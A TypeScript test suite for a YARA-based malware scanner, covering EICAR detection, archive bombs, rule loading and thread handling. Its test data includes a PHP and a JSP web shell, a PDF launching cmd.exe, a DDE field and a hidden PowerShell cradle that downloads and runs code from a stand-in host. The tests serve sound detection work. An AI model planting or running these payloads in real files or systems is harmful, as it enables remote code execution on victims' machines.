import assert from "node:assert/strict";
import { ARCHIVE_LIMITS, Budget } from "../../../infra/scanner/archives/budget.ts";
import { yaraScanner } from "../../../infra/scanner/yara.ts";
import { eicar, noise, stallAfter, streamOf } from "../../support/content.ts";
import { gzip, join, pdf, tar, withGzipName, zip } from "../../support/samples.ts";
import { blanks, bombs, nested } from "./bombs.ts";
import { CLEAN, closing, encode, rulesFolder, scanBy, unavailable } from "./scanning.ts";

// Starting a thread takes time: it loads the engine and compiles the rules. So most tests share one.
const builtIn = yaraScanner({ threads: 1 });
Deno.test.afterAll(() => builtIn.close());
const scan = scanBy(builtIn);
const infected = { verdict: "Infected", signatureName: "Eicar_Test_File" };

Deno.test("the built-in rules find the EICAR test file by its definition, and nothing else", async () => {
  const found = [eicar(), join(eicar(), encode("\r\n")), join(eicar(), encode(" ".repeat(60)))];
  for (const content of found) {
    for (const chunk of [1, 65_536]) assert.deepEqual(await scan(content, chunk), infected);
  }
  const rule = await Deno.readFile(new URL("../../../infra/scanner/rules/eicar.yar", import.meta.url));
  const harmless = [
    rule, // so other scanners do not report the rule file
    join(eicar(), encode(" ".repeat(61))),
    join(eicar(), encode(" x")),
    join(encode(" "), eicar()),
    eicar().subarray(0, 67),
    new Uint8Array(0),
    noise(300_000),
  ];
  for (const content of harmless) assert.deepEqual(await scan(content), CLEAN);
});

/** For each built-in rule: an attack, and similar harmless content. */
const attacks: [signatureName: string, attack: string, harmless: string][] = [
  ["Php_Web_Shell", "<?php @eval(base64_decode($_POST['x']));", "<?php echo htmlspecialchars($_POST['x']);"],
  [
    "Jsp_Web_Shell",
    '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    '<% out.print(request.getParameter("c")); %>',
  ],
  [
    "Pdf_Starts_Program",
    "%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/F(notes.pdf)>>",
  ],
  [
    "Rtf_Equation_Editor",
    "{\\rtf1{\\object{\\*\\objdata 01050000 4571756174696f6e2e33}}}",
    "{\\rtf1 Equation.3}",
  ],
  [
    "Shortcut_Starts_Script",
    `L\0\0\0\x01\x14\x02\0${[..."powershell.exe -enc"].map((c) => c + "\0").join("")}`,
    `L\0\0\0\x01\x14\x02\0${[..."notes.txt"].map((c) => c + "\0").join("")}`,
  ],
  [
    "Encoded_Powershell_Download",
    "powershell.exe -NoProfile -w hidden iex ((New-Object Net.WebClient).DownloadString('http://a.test/b'))",
    "powershell.exe -NoProfile Get-ChildItem",
  ],
];
/** The built-in rule for DDE matches in the parts of an Office document. */
const field = (text: string) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText>${text}</w:instrText></w:document>`;
attacks.push(["Office_Dde_Starts_Program", field("DDEAUTO c:\\windows\\system32\\cmd.exe"), field("PAGE")]);

Deno.test("each built-in rule finds its attack, also in a zip, but not similar content", async () => {
  for (const [signatureName, attack, harmless] of attacks) {
    for (const content of [encode(attack), zip([["word/document.xml", attack]])]) {
      assert.deepEqual(await scan(content), { verdict: "Infected", signatureName });
    }
    assert.deepEqual(await scan(encode(harmless)), CLEAN, signatureName);
  }
});

const text = "nothing here ".repeat(100);
const carriers: [name: string, content: () => Uint8Array][] = [
  ["a deflated zip", () => zip([["note.txt", text], ["eicar.com", eicar()]])],
  ["a stored zip", () => zip([["note.txt", text], ["eicar.com", eicar()]], { store: true })],
  ["a zip written to a pipe", () => zip([["note.txt", text], ["eicar.com", eicar()]], { streamed: true })],
  [
    "a stored zip written to a pipe",
    () => zip([["PK\x07\x08", "PK\x07\x08"], ["eicar.com", eicar()]], { store: true, streamed: true }),
  ],
  ["a zip with a zip64 directory", () => zip([["eicar.com", eicar()]], { zip64: true })],
  ["a gzip", () => gzip(eicar())],
  ["the second stream of a gzip", () => join(gzip(encode("")), gzip(eicar()))],
  ["a gzip with a name", () => withGzipName(gzip(eicar()))],
  ["a tar", () => tar([["note.txt", encode(text)], ["eicar.com", eicar()]])],
  ["a gzipped tar", () => gzip(tar([["note.txt", encode(text)], ["eicar.com", eicar()]]))],
  ["a gzipped tar in a zip", () => zip([["a.tgz", gzip(tar([["eicar.com", eicar()]]))]])],
  ["three zips in each other", () => nested(3)],
  ["a zip behind a PDF", () => join(pdf(), zip([["eicar.com", eicar()]]))],
];
Deno.test("EICAR is found in archives, in chunks of any size", async () => {
  for (const [name, content] of carriers) {
    const packed = content();
    // each chunk is a message to a thread
    for (const chunk of name === carriers[0]?.[0] ? [1, 65_536] : [97]) {
      assert.deepEqual(await scan(packed, chunk), infected, name);
    }
  }
});

Deno.test("archives that a scanner must not unpack are rejected with a reason", async () => {
  for (const { name, reason, content } of bombs) {
    const found = await scan(content());
    assert.match(found.verdict === "Rejected" ? found.reason : found.verdict, reason, name);
  }
});

Deno.test("an archive exactly at the limits is scanned and clean", async () => {
  const atLimits = [
    zip(Array.from({ length: 1_000 }, (_, n) => [`${n}.txt`, ""])),
    zip([["blank page", blanks(100_000)]]),
    zip([["folder/", ""], ["folder/a", text]], { streamed: true }),
    tar([["a", blanks(5_000_000)]]),
  ];
  for (const content of atLimits) assert.deepEqual(await scan(content), CLEAN);
  const ofTheService = zip([["a", blanks(1_000_000)]]);
  assert.deepEqual(await scan(ofTheService, undefined, { isOwn: true }), CLEAN);
});

Deno.test("a file may unpack to 200 MB, and to any size up to 128 KiB", () => {
  const budget = new Budget(ARCHIVE_LIMITS);
  budget.countUnpacked(128 * 1024);
  budget.requireRatio(1);
  budget.countUnpacked(200_000_000 - 128 * 1024);
  budget.requireRatio(2_000_000);
  assert.throws(() => budget.requireRatio(1_999_999), /more than 100 times its size/);
  assert.throws(() => budget.countUnpacked(1), /more than 200000000 bytes/);
});

Deno.test("truncated and changed archives get a verdict", async () => {
  const whole = zip([["a", text], ["b", zip([["c", noise(500)]])], ["d", gzip(tar([["e", noise(600)]]))]]);
  for (let n = 0; n < 10; n++) {
    const at = Math.floor(whole.length * n / 10);
    assert.equal((await scan(whole.slice(0, at))).verdict, "Clean");
    const changed = whole.slice();
    changed[at]! ^= 0xff;
    assert.notEqual((await scan(changed)).verdict, "Infected");
  }
});

const windowSizes = { window: 64 * 1024, overlap: 4096, head: 1024 };
const own = closing(yaraScanner({
  rulesFolder: await rulesFolder({
    "a.yar": 'private rule same { strings: $a = "alpha" condition: $a }',
    "b.yara": `rule same { strings: $b = "beta" condition: $b }
      rule needle { strings: $n = "needle in the haystack" condition: $n }
      rule at_start { strings: $m = "MZ" condition: $m at 0 } rule small { condition: filesize < 60KB and uint8(0) == 0x20 }`,
    "readme.txt": "not a rule",
  }, 1_700_000_000),
  ...{ threads: 2, windowSizes, idleTimeoutMs: 3_000 },
}));
const scanOwn = scanBy(own.scanner);
const named = (signatureName: string) => ({ verdict: "Infected", signatureName });

Deno.test("rules of several files work together, private ones give no verdict; the status has engine, rules and the date of the newest file", async () => {
  const status = await own.scanner.status();
  assert.match(status.engine, /^YARA-X \d+\.\d+\.\d+$/);
  assert.match(status.databaseVersion ?? "", /^[0-9a-f]{12}$/);
  assert.deepEqual(status.databaseDate, new Date(1_700_000_001_000));
  assert.deepEqual(await scanOwn(encode("alpha")), CLEAN);
  assert.deepEqual(await scanOwn(encode("a beta")), named("same"));
});

Deno.test("in content longer than the window a match is found anywhere, but rules on offset 0 and small files only where they hold", async () => {
  const content = noise(300_000);
  assert.deepEqual(await scanOwn(content), CLEAN);
  for (const at of [0, 65_536 - 10, 65_536 + 60_416 - 10, 200_000, 300_000 - 22]) {
    const withNeedle = content.slice();
    withNeedle.set(encode("needle in the haystack"), at);
    assert.deepEqual(await scanOwn(withNeedle), named("needle"), `at ${at}`);
  }
  const marks = new Uint8Array(150_000).map((_, i) => "MZ".charCodeAt(i % 2)).fill(0x20, 0, 1);
  assert.deepEqual(await scanOwn(marks), CLEAN);
  marks[0] = "M".charCodeAt(0);
  assert.deepEqual(await scanOwn(marks), named("at_start"));
});

Deno.test("more scans than threads wait in a queue and get their own verdicts", async () => {
  const contents = Array.from({ length: 10 }, (_, i) => i % 2 ? encode("beta") : noise(50_000, i + 1));
  const verdicts = await Promise.all(contents.map((content) => scanOwn(content)));
  assert.deepEqual(verdicts, contents.map((_, i) => i % 2 ? named("same") : CLEAN));
});

Deno.test("a stalled, a failing and an abandoned stream free their thread; closing ends running scans, and the scanner accepts no more", async () => {
  const { scanner } = own;
  const stalled = stallAfter(eicar());
  await unavailable(scanner.scan(stalled.stream), /next chunk of content took longer than 3000 ms/);
  await stalled.cancelled;
  const broken = new Error("object gone");
  await assert.rejects(scanner.scan(new ReadableStream({ pull: (c) => c.error(broken) })), broken);
  const stop = new AbortController();
  const abandoned = [1, 2, 3].map(() => scanner.scan(stallAfter(eicar()).stream, { signal: stop.signal }));
  stop.abort(new Error("shutting down"));
  for (const each of abandoned) await assert.rejects(each, /shutting down/);
  assert.deepEqual(await scanOwn(noise(10)), CLEAN);
  const running = scanner.scan(stallAfter(eicar()).stream);
  await scanner.close();
  await unavailable(running, /closed/);
  await unavailable(scanner.scan(streamOf(eicar())), /closed/);
  await unavailable(scanner.status(), /closed/);
});

Deno.test("no rules, no folder or a rule that does not compile: no verdict and no status", async () => {
  const missing = new URL("missing/", await rulesFolder({}));
  const cases: [URL, RegExp][] = [
    [await rulesFolder({}), /holds no \*\.yar file/],
    [missing, /cannot read/],
    [await rulesFolder({ "bad.yar": "rule x { condition: nonsense }" }), /bad\.yar does not compile/],
  ];
  for (const [rulesFolder, message] of cases) {
    await using yara = closing(yaraScanner({ rulesFolder, threads: 1 }));
    await unavailable(yara.scanner.scan(streamOf(eicar())), message);
    await unavailable(yara.scanner.status(), message);
  }
});
